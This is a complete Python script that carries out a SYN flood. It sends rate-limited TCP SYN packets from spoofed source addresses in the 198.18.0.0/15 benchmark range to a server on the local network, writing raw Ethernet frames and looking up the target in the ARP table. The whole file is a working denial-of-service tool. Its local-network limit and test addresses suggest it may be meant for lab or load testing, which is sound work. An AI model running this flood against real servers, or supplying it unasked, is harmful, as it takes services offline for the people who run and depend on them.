"""Sends SYNs to a server from addresses that nobody has, so that none is ever followed by an ACK.

    syn_flood.py ADDRESS PORT COUNT PER_SECOND

The server is in a network of this machine's and has been spoken with: where it is comes from the ARP table.
"""

import random
import socket
import struct
import sys
import time

TURN_SECONDS = 0.005
TYPE_IPV4 = 0x0800
# RFC 2544's, for tests: 198.18.0.0/15.
FIRST_SOURCE = 0xC6120000
SOURCES = 1 << 17


def neighbour(address):
    """The interface and the Ethernet address that a neighbour is at."""
    with open("/proc/net/arp") as table:
        for line in table:
            fields = line.split()
            if fields[0] == address:
                return fields[5], bytes.fromhex(fields[3].replace(":", ""))
    sys.exit(f"{address} is no neighbour")


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source, destination, source_port, port, sequence):
    """The IPv4 packet, without options."""

    def tcp(sum_):
        return struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, 0x02, 0xFFFF, sum_, 0)

    def ip(sum_):
        return struct.pack(
            "!BBHHHBBHII", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, sum_, source, destination
        )

    pseudo = struct.pack("!IIBBH", source, destination, 0, socket.IPPROTO_TCP, 20)
    return ip(checksum(ip(0))) + tcp(checksum(pseudo + tcp(0)))


def main():
    address = sys.argv[1]
    port, count, per_second = (int(each) for each in sys.argv[2:5])
    interface, server = neighbour(address)
    device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    device.bind((interface, 0))
    header = server + device.getsockname()[4] + struct.pack("!H", TYPE_IPV4)
    destination = int.from_bytes(socket.inet_aton(address), "big")
    made_up = random.Random(1)
    began = time.monotonic()
    sent = 0
    while sent < count:
        due = min(count, int((time.monotonic() - began) * per_second))
        for _ in range(sent, due):
            source = FIRST_SOURCE + made_up.randrange(SOURCES)
            source_port = made_up.randrange(1024, 0x10000)
            sequence = made_up.randrange(1 << 32)
            device.send(header + syn(source, destination, source_port, port, sequence))
        sent = max(sent, due)
        time.sleep(TURN_SECONDS)


main()
